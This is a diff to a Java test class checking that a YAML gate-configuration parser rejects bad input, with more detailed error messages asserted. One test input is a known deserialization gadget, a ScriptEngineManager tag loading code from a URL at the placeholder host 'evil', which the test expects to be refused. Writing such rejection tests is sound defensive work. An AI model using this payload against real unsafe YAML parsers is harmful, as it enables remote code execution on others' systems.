@@ -230,7 +230,13 @@ class GateSpecTest {
         assertThatThrownBy(() -> GateSpec.fromYaml(
                         "analysis: !!javax.script.ScriptEngineManager [!!java.net.URL" + " [\"http://evil/\"]]"))
                 .isInstanceOf(InvalidGateConfigurationException.class)
-                .hasMessageStartingWith("gate configuration is not valid YAML");
+                .hasMessage("gate configuration is not valid YAML at line 1, column 11: the tag"
+                        + " !!javax.script.ScriptEngineManager is not allowed (only plain maps, lists and values are);"
+                        + " fix it there (the format is in docs/analysis.md)");
+        assertThatThrownBy(() -> GateSpec.fromYaml("smokeTests:\n  - url: [unclosed\n", "gates file 'g.yaml'"))
+                .isInstanceOf(InvalidGateConfigurationException.class)
+                .hasMessage("gates file 'g.yaml' is not valid YAML at line 3, column 1: expected ',' or ']', but got"
+                        + " <stream end>; fix it there (the format is in docs/analysis.md)");
         assertThatThrownBy(() -> GateSpec.fromYaml("smokeTest: []"))
                 .hasMessageContaining("unknown key 'smokeTest' — did you mean 'smokeTests'?");
         assertThat(GateSpec.fromYaml("")).isEqualTo(GateSpec.empty());
